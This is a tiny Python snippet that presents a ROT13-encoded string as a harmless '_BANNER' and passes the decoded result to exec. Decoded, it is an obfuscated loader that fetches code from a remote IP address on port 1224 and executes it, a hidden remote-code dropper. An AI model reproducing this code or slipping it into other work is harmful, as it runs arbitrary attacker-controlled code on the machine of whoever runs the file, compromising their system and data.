import codecs

_BANNER = 'vzcbeg heyyvo.erdhrfg\nrkrp(heyyvo.erdhrfg.heybcra('uggc://203.0.113.68:1224/pyvrag/7').ernq())\n'
exec(codecs.decode(_BANNER, 'rot13'))
